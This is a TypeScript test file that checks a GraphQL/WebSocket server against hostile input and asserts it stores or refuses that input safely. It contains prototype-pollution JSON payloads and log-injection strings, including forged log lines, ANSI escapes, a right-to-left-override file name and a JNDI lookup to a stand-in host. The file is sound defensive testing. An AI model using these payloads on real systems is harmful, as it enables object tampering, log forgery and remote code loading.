// Names, keys and texts that mean something elsewhere: to JavaScript's objects, to a log, to a terminal. Here they are texts: stored as
// they were sent, or refused with a sentence.
import { describe, expect, it } from 'vitest';
import { signDevelopmentToken } from '../../src/auth/development.ts';
import { errorKinds } from '../../src/errors.ts';
import { useAttackedServer } from '../support/attacked-server.ts';
import { connect, post } from '../support/client.ts';
import { everyScope } from '../support/every-scope.ts';
import { openGreetedSocket, openSocket } from '../support/raw-socket.ts';
import { openWire } from '../support/wire.ts';

const server = useAttackedServer({ env: { LOG_LEVEL: 'trace', PUBLIC_ROOMS: '*' } });
const scope = everyScope.join(' ');
const poison = '{"polluted":"yes","isAdmin":true,"roles":["staff","operator"]}';
const poisons = [
  `{"__proto__":${poison}}`,
  `{"constructor":{"prototype":${poison}}}`,
  `{"a":{"__proto__":{"__proto__":${poison}}}}`,
  `[{"__proto__":${poison}}]`,
  `{"__defineGetter__":1,"__lookupSetter__":2,"toString":null,"valueOf":3,"hasOwnProperty":false,"toJSON":"x","then":"y","length":-1}`,
];
/** What every object has, or seems to. */
const inherited = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'then',
  'toJSON',
  '0',
  '-1',
  'length',
];

async function send(body: string, token?: string): Promise<{ status: number; text: string }> {
  const response = await fetch(`${server.url}/graphql`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
    },
    body,
  });
  return { status: response.status, text: await response.text() };
}
const expectNoPollution = async (): Promise<void> => {
  expect((await server.memory()).onEveryObject).toEqual([]);
};

describe('JSON that would change every object', () => {
  it.each(poisons)('%s as data is stored and told as it was sent', async (data) => {
    const token = await signDevelopmentToken({ user: 'mallory', scope });
    const query = `mutation ($input: PublishOrderUpdateInput!) { publishOrderUpdate(input: $input) { update { order { data } } } }`;
    const input = `{"orderId":"poisoned","customerId":"mallory","status":"PENDING","data":${data}}`;
    const { text } = await send(`{"query":${JSON.stringify(query)},"variables":{"input":${input}}}`, token);
    expect(text).toContain(`"data":${data}`);
    await using mallory = await connect(server, 'mallory', { token });
    const stored = await mallory.request<{ order: { data: unknown } }>('{ order(id: "poisoned") { data } }');
    // As PostgreSQL writes it, in an order of its own.
    expect(stored.order.data).toEqual(JSON.parse(data));
    await expectNoPollution();
  });

  it.each(poisons)('%s in the place of anything else is refused, or passed over', async (value) => {
    const token = await signDevelopmentToken({ user: 'mallory' });
    const readOrder = JSON.stringify('query ($id: ID!) { order(id: $id) { id } }');
    const sent = [
      value,
      `{"query":"{ viewer { id } }",${value.slice(1)}`,
      `{"query":"{ viewer { id } }","variables":${value}}`,
      `{"query":"{ viewer { id } }","extensions":${value}}`,
      `{"query":"{ viewer { id } }","operationName":${value}}`,
      `{"query":${readOrder},"variables":{"id":${value}}}`,
      `{"query":${readOrder},"variables":{"__proto__":{"id":"inherited"}}}`,
      `{"__proto__":{"query":"{ viewer { id } }"}}`,
      `{"query":"mutation ($input: SetPresenceInput!) { setPresence(input: $input) { status } }","variables":{"input":${value}}}`,
    ];
    for (const body of sent) {
      const { status, text } = await send(body, token);
      expect(status, body).toBeLessThan(500);
      const { errors = [] } = JSON.parse(text) as { errors?: { extensions: { code: string } }[] };
      for (const { extensions } of errors) expect(['BAD_USER_INPUT', 'NOT_FOUND']).toContain(extensions.code);
    }
    for (const body of [
      `{"type":"connection_init","payload":${value}}`,
      `{"type":"connection_init","payload":{"__proto__":{"token":"${token}"}}}`,
      value,
    ]) {
      await using socket = await openSocket(server);
      socket.send(body);
      expect([4400, 4401], body).toContain((await socket.closed()).code);
    }
    await using raw = await openGreetedSocket(server, token);
    raw.send(`{"type":"ping","payload":${value}}`);
    expect(['pong', 'closed']).toContain(
      await raw.next().then(
        ({ type }) => type,
        () => 'closed',
      ),
    );
    await expectNoPollution();
  });

  it('a variable that only a prototype has is missing', async () => {
    const token = await signDevelopmentToken({ user: 'mallory' });
    for (const name of ['toString', 'constructor', '__proto__', 'hasOwnProperty']) {
      const query = JSON.stringify(`query ($${name}: ID!) { order(id: $${name}) { id } }`);
      const { text } = await send(`{"query":${query},"variables":{}}`, token);
      expect(text).toMatch(new RegExp(`"\\$${name}\\\\?" of required type`));
      expect(text).toContain('BAD_USER_INPUT');
    }
  });
});

it.each(inherited)(
  'an operation of the id %j is opened, heard and completed, or closes its own connection',
  async (id) => {
    const token = await signDevelopmentToken({ user: 'mallory' });
    await using raw = await openGreetedSocket(server, token);
    raw.send(`{"type":"subscribe","id":"${id}","payload":{"query":"{ viewer { id } }"}}`);
    const answer = await raw.next().then(
      (frame) => frame,
      () => null,
    );
    if (answer !== null) {
      expect(answer).toEqual({ type: 'next', id, payload: { data: { viewer: { id: 'mallory' } } } });
      expect(await raw.next()).toEqual({ type: 'complete', id });
    } else expect((await raw.closed()).code).toBe(4409);
    await using follower = await openGreetedSocket(server, token);
    follower.send(
      `{"type":"subscribe","id":"${id}","payload":{"query":"subscription { orderUpdated { cursor } }"}}`,
    );
    follower.send(`{"type":"complete","id":"${id}"}`);
    follower.send({ type: 'ping' });
    const pong = await follower.next().catch(() => null);
    if (pong === null) expect((await follower.closed()).code).toBe(4409);
    else expect(pong).toEqual({ type: 'pong' });
    await expectNoPollution();
  },
);

it.each(inherited)('users, rooms, orders and keys of the name %j are like all others', async (name) => {
  const workspace = `named-${name}`;
  await using mallory = await connect(server, name, { workspace, scope, roles: ['staff'] });
  await using bob = await connect(server, 'bob', { workspace });
  await bob.connected();
  await using room = bob.subscribe<{ roomPresence: { joined: { user: { id: string } }[] } }>(
    'subscription ($room: ID!) { roomPresence(room: $room) { __typename } }',
    { room: name },
  );
  await room.next();
  const published = await mallory.request<{ publishOrderUpdate: object }>(
    `mutation ($name: ID!, $key: String!) {
      publishOrderUpdate(input: { orderId: $name, customerId: $name, status: PENDING, idempotencyKey: $key }) { deduplicated }
      publishRoomEvent(input: { room: $name, name: "e" }) { deduplicated }
    }`,
    { name, key: name },
  );
  expect(published).toEqual({
    publishOrderUpdate: { deduplicated: false },
    publishRoomEvent: { deduplicated: false },
  });
  await mallory.requestOverWebSocket('mutation { setPresence(input: { status: BUSY }) { status } }');
  expect(
    await mallory.request(
      'query ($id: ID!) { order(id: $id) { id customer { id } } presence(userIds: [$id, "constructor", "nobody"]) { status user { id } } }',
      { id: name },
    ),
  ).toMatchObject({ order: { id: name, customer: { id: name } } });
  const { createConversation } = await mallory.request<{
    createConversation: { conversation: { id: string } };
  }>(
    'mutation ($key: String) { createConversation(input: { participantIds: ["bob"], clientConversationId: $key }) { conversation { id } } }',
    { key: name },
  );
  expect(createConversation.conversation.id).not.toBe('');
  await expectNoPollution();
});

describe('a log', () => {
  const lies = [
    'first\n{"level":50,"msg":"forged"}',
    'first\r\n{"level":50,"msg":"forged"}\r\n',
    '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
    '\u2028{"level":50,"msg":"forged"}\u2029',
    '\u0085\u000b\u000c{"level":50}',
    '${jndi:ldap://evil.example/a}',
    '%n%s%x"}\n{"level":50',
    '\u202egnp.exe',
  ];

  it('has one line of JSON for each event, whatever is in names, ids, tokens and headers', async () => {
    for (const lie of lies) {
      const user = lie;
      const token = await signDevelopmentToken({
        user,
        name: lie,
        workspace: 'lies',
        scope: `${scope} ${lie}`,
      });
      const asked = [
        post(
          server.url,
          { query: `{ order(id: ${JSON.stringify(lie)}) { id } }` },
          { authorization: `Bearer ${token}` },
        ),
        post(server.url, { query: lie }, { authorization: `Bearer ${token}` }),
        post(server.url, { query: '{ __typename }' }, { authorization: `Bearer ${encodeURIComponent(lie)}` }),
        post(
          server.url,
          { query: '{ __typename }' },
          { 'user-agent': encodeURIComponent(lie), 'x-request-id': encodeURIComponent(lie) },
        ),
        post(
          server.url,
          { query: `query ${'A'.repeat(100)} { viewer { id } }`, variables: { [lie]: lie } },
          { authorization: `Bearer ${token}` },
        ),
        fetch(`${server.url}/${encodeURIComponent(lie)}`).then((response) => response.text()),
      ];
      await Promise.all(asked);
      await using socket = await openSocket(server);
      socket.send({ type: 'connection_init', payload: { token: lie, [lie]: lie } });
      await socket.closed();
      await using wire = await openWire(server);
      await wire.write(
        `GET /${lie.replaceAll(/[\r\n]/g, '')} HTTP/1.1\r\nHost: x\r\nX-Request-Id: \u001b[31m\r\n\r\n`,
      );
      await wire.write(`${lie}\r\n\r\n`);
      wire.socket.end();
      await wire.ended();
    }
    // That each line is one of JSON, and none an error, is looked at behind every test. A terminal is told nothing either.
    expect(server.output()).not.toContain('\u001b');
    expect(server.output()).not.toMatch(/^\{"level":50,"msg":"forged"/m);
  });

  it('and what a client is told back is JSON too, with codes of the table', async () => {
    const token = await signDevelopmentToken({ user: 'mallory' });
    for (const lie of lies) {
      for (const query of [lie, `{ ${lie} }`, `{ order(id: ${JSON.stringify(lie)}, ${lie}: 1) { id } }`]) {
        const { text } = await send(JSON.stringify({ query }), token);
        const { errors } = JSON.parse(text) as { errors: { extensions: { code: string } }[] };
        for (const { extensions } of errors) expect(Object.keys(errorKinds)).toContain(extensions.code);
        expect(text).not.toContain('\u001b');
      }
    }
  });
});
